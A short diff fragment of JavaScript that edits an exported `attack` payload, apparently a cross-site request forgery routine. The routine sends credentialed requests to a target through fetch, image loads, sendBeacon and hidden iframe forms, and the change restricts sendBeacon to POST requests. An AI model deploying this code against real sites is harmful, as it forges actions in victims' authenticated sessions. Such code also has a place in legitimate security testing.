@@ -94,10 +94,10 @@ export const attack = `async ([target, wishes]) => {
       const headers = { 'content-type': type }
       settled.push(fetch(url, { method, mode, headers, credentials: 'include', body: text }))
     }
-    navigator.sendBeacon(url, text)
     const image = new Image()
     image.src = url + '?_method=' + method
     if (method !== 'POST') continue
+    navigator.sendBeacon(url, text)
     const frame = document.createElement('iframe')
     frame.name = 'frame' + path
     const form = document.createElement('form')
